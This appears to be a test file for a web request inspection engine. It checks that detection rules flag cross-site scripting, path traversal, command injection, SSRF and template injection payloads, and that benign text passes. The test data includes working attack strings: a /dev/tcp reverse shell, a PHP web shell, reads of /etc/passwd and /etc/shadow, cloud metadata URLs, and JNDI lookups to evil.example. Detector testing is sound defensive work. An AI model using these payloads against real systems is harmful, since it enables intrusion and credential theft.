import { describe, expect, it } from "vitest";
import { categories, ids, inJson, inQuery } from "../test-helpers";
import { inspectRequest } from "../index";

describe("cross-site scripting", () => {
  it.each([
    ["<script>alert(1)</script>", "xss-script-tag"],
    ["<img src=x onerror=alert(1)>", "xss-event-handler"],
    ["\" onmouseover=\"alert(1)", "xss-event-handler"],
    ["java\tscript:alert(1)", "xss-js-uri"],
    ["&#106;avascript:alert(1)", "xss-js-uri"],
    ["<svg/onload=confirm(1)>", "xss-event-handler"],
    ["\"><iframe src=//evil>", "xss-quote-breakout"],
    ["';alert(String.fromCharCode(88))//", "xss-js-string-breakout"],
    ["%253Cscript%253E", "xss-script-tag"],
  ])("flags %s", (payload, rule) => {
    expect(ids(inQuery(payload))).toContain(rule);
  });
  it.each(["I <3 cats", "a < b and c > d", "Use the onload event when the page loads", "email me at bob@example.com", "x = y + 1"])("does not flag %s", (text) => {
    expect(categories(inQuery(text))).not.toContain("xss");
  });
});

describe("path traversal and file inclusion", () => {
  it.each([
    ["../../etc/passwd", "trav-dot-dot"],
    ["..%252f..%252fwindows/win.ini", "trav-dot-dot"],
    ["%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", "trav-dot-dot"],
    ["..0x2f..0x2fetc0x2fpasswd", "trav-dot-dot"],
    ["/etc/passwd", "trav-system-file"],
    ["php://filter/convert.base64-encode/resource=index.php", "trav-wrapper"],
    ["file:///etc/hosts", "trav-wrapper"],
    ["../../boot.ini%00", "trav-null-byte"],
    ["http://evil.example/shell.txt?", "trav-rfi-trailing-query"],
  ])("flags %s", (payload, rule) => {
    expect(ids(inQuery(payload))).toContain(rule);
  });
  it("flags a request path that reaches a dotfile", () => {
    expect(ids(inspectRequest({ method: "GET", path: "/.git/config", query: "", headers: {} }).findings)).toContain("trav-dotfile-path");
    expect(inspectRequest({ method: "GET", path: "/.well-known/openid-configuration", query: "", headers: {} }).findings).toEqual([]);
  });
  it.each(["docs/guide.md", "2024/05/17", "Wait... what?", "v1.2.3", "see ./README"])("does not flag %s", (text) => {
    expect(categories(inQuery(text))).not.toContain("traversal");
  });
});

describe("OS command injection", () => {
  it.each([
    ["; cat /etc/passwd", "rce-chained-command"],
    ["| id", "rce-chained-command"],
    ["$(whoami)", "rce-ifs-and-expansion"],
    ["`id`", "rce-backtick"],
    ["cat${IFS}/etc/passwd", "rce-ifs-and-expansion"],
    ["; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "rce-reverse-shell"],
    ["/???/??t /???/pa??wd", "rce-glob-path"],
    ["FOR /F %a IN (file.txt) DO echo %a", "rce-windows-batch"],
    ["() { :;}; echo vulnerable", "rce-shellshock"],
    ["__import__('os').system('id')", "rce-python-code"],
    ["<?php system($_GET['c']); ?>", "rce-php-code"],
    ["& sleep 10", "rce-chained-command"],
    ["whoami", "rce-chained-command"],
  ])("flags %s", (payload, rule) => {
    expect(ids(inQuery(payload))).toContain(rule);
  });
  it.each([
    "my dog; cat lovers will understand", "rock & roll", "Tom & Jerry | season 2", "find a store near me",
    "Price: $5 (incl. tax)", "I'll be there at 5; more later",
  ])("does not flag %s", (text) => {
    expect(categories(inQuery(text))).not.toContain("rce");
  });
  it("does not read a browser user-agent as a pipeline", () => {
    const ua = "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2 (KHTML, like Gecko)";
    expect(inspectRequest({ method: "GET", path: "/", query: "", headers: { "user-agent": ua } }).findings).toEqual([]);
  });
});

describe("server-side request forgery", () => {
  it.each([
    ["http://169.254.169.254/latest/meta-data/", "ssrf-metadata"],
    ["http://metadata.google.internal/computeMetadata/v1/", "ssrf-metadata"],
    ["http://127.0.0.1:8080/admin", "ssrf-loopback"],
    ["http://2130706433/", "ssrf-loopback"],
    ["http://0x7f.1/", "ssrf-obfuscated-ip"],
    ["http://[::ffff:127.0.0.1]/", "ssrf-loopback"],
    ["http://evil.com@10.0.0.5/", "ssrf-private"],
    ["http://127.0.0.1.nip.io/", "ssrf-loopback"],
    ["gopher://localhost:6379/_FLUSHALL", "ssrf-risky-scheme"],
    ["http:2852039166", "ssrf-metadata"],
    ["kubernetes.default.svc/api", "ssrf-schemeless-internal-name"],
  ])("flags %s", (payload, rule) => {
    expect(ids(inQuery(payload))).toContain(rule);
  });
  it.each(["https://example.com/callback", "https://8.8.8.8/dns", "see https://docs.example.org/a?b=c", "version 1.2.3.4"])("does not flag %s", (text) => {
    expect(categories(inQuery(text))).not.toContain("ssrf");
  });
});

describe("template and expression injection", () => {
  it.each([
    ["{{7*7}}", "ssti-expression"],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", "ssti-python-internals"],
    ["${jndi:ldap://evil.example/a}", "ssti-jndi"],
    ["${${lower:j}${::-n}di:rmi://x/y}", "ssti-jndi"],
    ["${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti-java-el"],
    ["<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "ssti-engine-directive"],
    ["<%= 7*7 %>", "ssti-erb-tag"],
  ])("flags %s", (payload, rule) => {
    expect(ids(inQuery(payload))).toContain(rule);
  });
  it("plain mustache variables only count at paranoia 2", () => {
    expect(categories(inJson({ template: "Hello {{name}}" }))).not.toContain("ssti");
    expect(categories(inJson({ template: "Hello {{name}}" }, 2))).toContain("ssti");
  });
});
